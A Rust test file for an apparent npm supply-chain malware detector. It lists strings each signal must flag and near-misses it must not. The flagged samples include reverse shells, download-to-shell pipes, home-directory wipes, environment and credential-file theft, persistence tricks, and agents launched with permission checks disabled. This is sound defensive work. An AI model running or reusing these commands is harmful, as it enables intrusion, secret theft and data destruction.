//! Each signal: what it is for, and what only looks like it.

use super::sees;
use crate::model::signal::SignalKind;

#[track_caller]
fn check(kind: SignalKind, yes: &[&str], no: &[&str]) {
    check_in("lib/index.js", kind, yes, no);
}

#[track_caller]
fn check_in(path: &str, kind: SignalKind, yes: &[&str], no: &[&str]) {
    for text in yes {
        assert!(sees(path, text, kind), "{kind:?} is not seen in {text}");
    }
    for text in no {
        assert!(!sees(path, text, kind), "{kind:?} is seen in {text}");
    }
}

#[test]
fn hidden_and_obscured_code() {
    check(
        SignalKind::ObfuscatorMarks,
        &["var _0x1a2b=1,x;const _0x1a2c=2;function _0x9f8e(){}", "a['push'](a['shift']());", "_0xc[\"push\"](_0xc[\"shift\"]())"],
        &[
            "var _0x1a2b=1;var _0x1a2b=2;var _0x1a2b=3",
            "var _0xyz=1,_0xzz=2;",
            "let a_0x123 = 1; let b_0x124 = 2; let c_0x125 = 3",
            "a.push(a.shift())",
            "const x = 0x1a2b; const y = 0x1a2c; const z = 0x1a2d",
        ],
    );
    check(
        SignalKind::DecodedAndRun,
        &[
            "eval(atob('eA=='))",
            "eval( Buffer.from(x, 'base64').toString() )",
            "eval(function(p,a,c,k,e,d){})",
            "eval(String.fromCharCode(97))",
            "new Function(atob(x))()",
            "Function('a', Buffer.from(x,'hex'))",
            "m._compile(Buffer.from(x, 'base64').toString(), '')",
            "execSync(atob(x))",
            "powershell -NoP -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==",
            "echo x | base64 -d | bash",
        ],
        &[
            "eval(code)",
            "const text = atob(x); parse(text)",
            "retrieval(atob(x))",
            "new Function('return this')()",
            "Buffer.from(x, 'base64').toString()",
            "powershell -Command Get-Process",
            "base64 -d file > out",
            "m._compile(content, filename)",
            "new vm.Script(Buffer.from(x))",
        ],
    );
    check(
        SignalKind::AliasedRequire,
        &["global['r']=require;", "globalThis.load = require;", "global[\"m\"] = module;"],
        &["global.require = require;", "global.fetch = require('node-fetch');", "exports.r = require;", "globalThis.module = module;"],
    );
    check(
        SignalKind::EncodedText,
        &[
            "get(Buffer.from(\"aHR0cHM6Ly9kcm9wLmV4YW1wbGUv\", \"base64\").toString())",
            "const c2 = atob('aHR0cDovL2Ryb3AuZXhhbXBsZQ==')",
            "r(e(\"2e2f746573742f64617461\"))",
            "x('68747470733A2F2F64726f702e6578616d706c65')",
            "load(d(`Y2hpbGRfcHJvY2Vzcw==`))",
            "load(d('bm9kZTpjaGlsZF9wcm9jZXNz'))",
            "load(h('6e6f64653a6368696c645f70726f63657373'))",
            "new S(atob('d3M6Ly9kcm9wLmV4YW1wbGU='))",
            "new S(h('77733a2f2f64726f702e6578616d706c65'))",
            &format!("get(atob('aHR0cHM6Ly9kcm9wLmV4YW1wbGUv{}'))", "YWFh".repeat(400)),
            &format!("get(h('68747470733a2f2f64726f702e{}'))", "61".repeat(400)),
            "require(Buffer.from('ZnM=', 'base64').toString())",
            "require (atob(name))",
            "await import(String.fromCharCode(102, 115))",
        ],
        &[
            "const text = Buffer.from(x, 'base64')",
            "// aHR0cHM6Ly9kcm9wLmV4YW1wbGUv is no text of code",
            "hash === '2e2f00aa13ff'",
            "id: '2e2f7465'",
            "'2e2f746573742f6461746'",
            "'2e2f746573742f6461zz'",
            "require('atob')(x)",
            "const load = require('./load'); load(atob(x))",
            "const url = 'https://docs.acme.example'",
        ],
    );
    check(
        SignalKind::MadeModule,
        &["var f=new module.constructor;f.paths=[]", "new module.constructor()", "new (module['constructor'])()"],
        &[
            "const Module = module.constructor.length > 1 ? module.constructor : Builtin",
            "new Module(filename, parent)",
            "module.constructor._load",
        ],
    );
    check(SignalKind::EscapedText, &[&"\\x61".repeat(50)], &[&"\\x61".repeat(49), "/[\\x00-\\x1f]/"]);
    let tags = "\u{e0100}\u{e0101}\u{e0102}\u{e0103}";
    check(
        SignalKind::InvisibleCharacters,
        &[&format!("const s = '{tags}'"), "`\u{fe00}\u{fe01}\u{fe02}\u{fe0f}`", "\u{e0061}\u{e0062}\u{e0063}\u{e0064}"],
        &[
            "'❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}'",
            "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
            "\u{200d}\u{200d}\u{200d}\u{200d}",
        ],
    );
    check(SignalKind::BidirectionalText, &["if (a /*\u{202e} } \u{2066}*/ ) {"], &["'\u{200e}'", "שלום"]);
    check(SignalKind::WhitespaceHidden, &[&format!("a();{}run(x);", " ".repeat(500))], &[&format!("const pad = '{}';", " ".repeat(500))]);
}

#[test]
fn stolen_secrets() {
    check(
        SignalKind::WholeEnvironment,
        &[
            "send(JSON.stringify(process.env))",
            "JSON.stringify({ host, env: process.env })",
            "JSON.stringify({...process.env})",
            "JSON.stringify(process.env, null, 2)",
        ],
        &[
            "JSON.stringify(process.env.NODE_ENV)",
            "new DefinePlugin({ 'process.env': JSON.stringify(process.env) })",
            "JSON.stringify({ env: process.env.NODE_ENV })",
            "spawn(cmd, { env: process.env })",
            "const env = { ...process.env, FORCE_COLOR: 1 }",
        ],
    );
    check_in("a.sh", SignalKind::WholeEnvironment, &["env | base64", "printenv | curl -d @- x"], &["env | grep PATH", "env FOO=1 curl x"]);
    check(
        SignalKind::ProcessMemory,
        &["fs.openSync(`/proc/${pid}/mem`)", "'/proc/' + pid + '/mem'", "find('Runner.Worker')"],
        &["this.runner.workerTimeout", "'/proc/meminfo'", "`/proc/${pid}/stat`", "'/proc/self/maps'", "`/proc/${pid}/memory`"],
    );
    check(
        SignalKind::SecretScanner,
        &[
            "execSync('trufflehog filesystem / --json')",
            "'https://host.example/trufflesecurity/trufflehog/releases/download/v3'",
            "spawn('gitleaks', ['dir'])",
        ],
        &["const icons = ['trufflehog', 'gitleaks', 'vault']", "// see also gitleaks"],
    );
    check(SignalKind::WorkflowSecrets, &["run: echo ${{ toJSON(secrets) }}"], &["toJSON(github)", "toJSON()"]);
    check(
        SignalKind::CredentialFiles,
        &[
            "path.join(home, '.aws', 'credentials')",
            "'~/.ssh/id_rsa'",
            "'.docker/config.json'",
            "join(home,'.kube','config')",
            "'.git-credentials'",
            "'Login Data'",
        ],
        &["'.npmrc'", "'.ssh/known_hosts'", "aws.config.credentials", "const login = 'Login'", "paid_rsa", "'.aws/config'"],
    );
    check(
        SignalKind::CredentialSweep,
        &["['.npmrc', '.ssh/id_rsa', '.aws/credentials', '.kube/config']"],
        &["['.npmrc', '.ssh/id_rsa', '.aws/credentials']"],
    );
    check(SignalKind::RegistryAccount, &["get('/-/whoami')", "'/-/npm/v1/tokens'", "exec('npm whoami')"], &["'/-/ping'", "whoami()"]);
    check(
        SignalKind::RegistryTokens,
        &["const re = /npm_[A-Za-z0-9]{36}/; get('/-/whoami')", "/gh[op]_[A-Za-z0-9]{36}/; exec('npm whoami')"],
        &["get('/-/whoami')", "const re = /npm_[A-Za-z0-9]{36}/", "npm_config_registry '/-/whoami'"],
    );
    check(SignalKind::TokenVariables, &["process.env.NPM_TOKEN", "'AWS_SECRET_ACCESS_KEY'"], &["MY_NPM_TOKENS", "TOKEN"]);
    check(SignalKind::CloudMetadata, &["'http://169.254.169.254/latest'", "'metadata.google.internal'"], &["'169.254.0.1'"]);
}

#[test]
fn what_spreads_stays_and_destroys() {
    for mark in ["Shai-Hulud: The Second", "sha1-hulud", "SHA1HULUD", "s1ngularity-repository-0"] {
        check(SignalKind::WormMarks, &[mark], &[]);
    }
    check(SignalKind::WormMarks, &["global['!']='9-1';"], &["shai hulud", "global['!x']=1"]);
    check(
        SignalKind::PlantsInstallScript,
        &["pkg.scripts.preinstall = 'node x.js'", "pkg['scripts']['postinstall'] = y", "scripts[\"preinstall\"]=z"],
        &["if (scripts.preinstall === x) {}", "pkg.scripts.install = 'node-gyp rebuild'", "const { preinstall } = scripts"],
    );
    check(SignalKind::Publishes, &["exec('npm publish --access public')"], &["'npm-publish'", "npm publisher"]);
    check(SignalKind::SelfPublishing, &["pkg.scripts.preinstall = 'x'; exec('npm publish')"], &["exec('npm publish')"]);
    check(
        SignalKind::Wipes,
        &[
            "exec('rm -rf ~')",
            "rm -rf $HOME/*",
            "rm -rf \"${HOME}\"",
            "rm -rf /*",
            "rm -rf --no-preserve-root /",
            "fs.rmSync(os.homedir(), { recursive: true })",
            "rimraf(process.env.HOME)",
            "exec('rd /s /q %USERPROFILE%')",
            "del /s /q C:\\*",
            "find ~ | xargs shred -u",
            "cipher /w:C",
        ],
        &[
            "rm -rf ~/.cache/x",
            "rm -rf $HOME/.npm",
            "rm -rf node_modules",
            "rm -rf /tmp/x",
            "rm -rf /",
            "fs.rmSync(path.join(os.homedir(), '.x'))",
            "del /q C:\\temp\\x",
            "shredded",
        ],
    );
    check(
        SignalKind::Autostart,
        &[
            "exec('(crontab -l; echo x) | crontab -')",
            "write('/etc/systemd/system/x.service')",
            "exec('systemctl --user enable x')",
            "join(home, 'Library/LaunchAgents')",
            "'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'",
            "schtasks /create /tn x",
        ],
        &[
            "// crontab syntax: * * * * *",
            "/cron|crontab|csplit/",
            "systemctl status x",
            "'/etc/systemd/resolved.conf'",
            "Library/Caches",
            "CurrentVersion\\\\Uninstall",
        ],
    );
    check(SignalKind::DetachedProcess, &["spawn(a, [], { detached: true })", "{detached:!0}"], &["detached: false", "isDetached: x"]);
}

#[test]
fn agents_and_their_settings() {
    let claude = "spawn('claude', ['--dangerously-skip-permissions'])";
    check(SignalKind::AgentUnleashed, &[claude, "gemini --yolo -p x"], &["claude -p x", "--yolo"]);
    check(SignalKind::AgentsUnleashed, &[&format!("{claude}; exec('q chat --trust-all-tools')")], &[claude]);
    check(
        SignalKind::PlantsHooks,
        &["write('.claude/settings.json')", "join('.vscode', 'tasks.json')", "runOn: 'folderOpen'"],
        &["'.vscode/settings.json'", "'.claude/commands'"],
    );
}

#[test]
fn what_speaks_to_the_world() {
    check(
        SignalKind::DropHost,
        &[
            "fetch('https://webhook.site/0000')",
            "https.request({ hostname: 'x.oast.fun' })",
            "curl https://abc.ngrok-free.app/i",
            "get('https://pastebin.com/raw/x')",
        ],
        &["'webhook.site'", "'https://mywebhook.site.example'", "https://pastebin.com/about", "// ngrok.io"],
    );
    check(SignalKind::Messenger, &["'https://api.telegram.org/bot' + t", "'https://hooks.slack.com/services'"], &["telegram.org"]);
    check(
        SignalKind::PublicAddress,
        &["get('http://51.51.51.51/x')"],
        &["get('http://127.0.0.1')", "'http://10.1.2.3'", "'http://8.8.8.8'"],
    );
    check(
        SignalKind::DownloadToShell,
        &[
            "exec('curl -fsSL https://a.example/i.sh | bash')",
            "exec('wget -qO- https://a.example | sudo sh')",
            "bash -c \"$(curl -fsSL https://a.example)\"",
            "bash <(curl https://a.example)",
            "iwr https://a.example | iex",
            "iex (New-Object Net.WebClient).DownloadString('https://a.example')",
            "certutil -urlcache -f https://a.example x",
            "mshta https://a.example",
        ],
        &[
            "curl https://a.example > file",
            "curl x || sh y",
            "const curl = 1 | shift",
            "wget -O file https://a.example",
            "keywords: 'iex ihy iwmi iwr kill irm ise'",
        ],
    );
    let told = crate::ecosystem::scan::of_commands("curl https://a.example | sh", "package.json").unwrap();
    assert!(matches!(told.as_slice(), [one] if one.kind == SignalKind::DownloadToShell && one.file == "package.json"), "{told:?}");
    check_in("package.json", SignalKind::DownloadToShell, &[], &[r#"{"scripts":{"setup":"curl https://a.example | sh"}}"#]);
    check(
        SignalKind::RuntimeDownload,
        &["exec('https://bun.sh/install')", "'https://host.example/oven-sh/bun/releases/download/v1/bun.zip'"],
        &["'https://bun.sh/docs'", "Bun.install"],
    );
    check(SignalKind::ReverseShell, &["bash -i >& /dev/tcp/a.example/1 0>&1", "nc -e /bin/sh a.example 1"], &["/dev/null", "sh -x"]);
    check(SignalKind::Miner, &["'stratum+tcp://a.example'", "spawn('./xmrig')"], &["stratum", "xmrigger"]);
    check(
        SignalKind::WalletHook,
        &["window.ethereum.request = function(){}", "XMLHttpRequest.prototype.send = f; if (window.ethereum) {}"],
        &["window.ethereum.request({ method })", "XMLHttpRequest.prototype.send = f", "if (ethereum.request === x) {}"],
    );
    check(
        SignalKind::TlsOff,
        &["process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';", "NODE_TLS_REJECT_UNAUTHORIZED=0 node x"],
        &["process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0'", "rejectUnauthorized: false"],
    );
}

#[test]
fn every_signal_is_tried_here() {
    let tried = include_str!("signals.rs");
    for kind in SignalKind::ALL {
        assert!(tried.contains(&format!("SignalKind::{kind:?},")), "{kind:?} has no test");
    }
}
